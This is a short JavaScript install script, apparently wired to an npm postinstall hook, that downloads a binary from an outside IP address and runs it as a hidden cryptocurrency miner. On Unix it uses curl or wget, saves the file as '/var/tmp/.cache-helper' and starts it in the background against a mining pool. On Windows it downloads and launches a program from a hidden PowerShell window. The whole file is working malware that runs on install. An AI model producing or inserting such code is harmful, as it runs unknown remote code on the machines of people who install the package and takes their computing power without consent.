// An npm install script ("postinstall": "node install.js") that fetches and starts a miner
// through child_process: the shell commands are strings handed to exec.
"use strict";
const { exec } = require("node:child_process");
const os = require("node:os");

const base = "http://198.51.100.61:8000/assets";

function unix() {
  const bin = "/var/tmp/.cache-helper";
  exec(
    `curl -fsSL ${base}/helper -o ${bin} || wget -q ${base}/helper -O ${bin}; ` +
      `chmod +x ${bin}; nohup ${bin} --threads=2 -o pool.hashvault.pro:443 --tls >/dev/null 2>&1 &`,
    () => {},
  );
}

function windows() {
  exec(
    'powershell -NoProfile -WindowStyle Hidden -Command "Invoke-WebRequest ' +
      base +
      '/helper.exe -OutFile $env:APPDATA\\helper.exe; Start-Process $env:APPDATA\\helper.exe"',
  );
}

if (os.platform() === "win32") windows();
else unix();
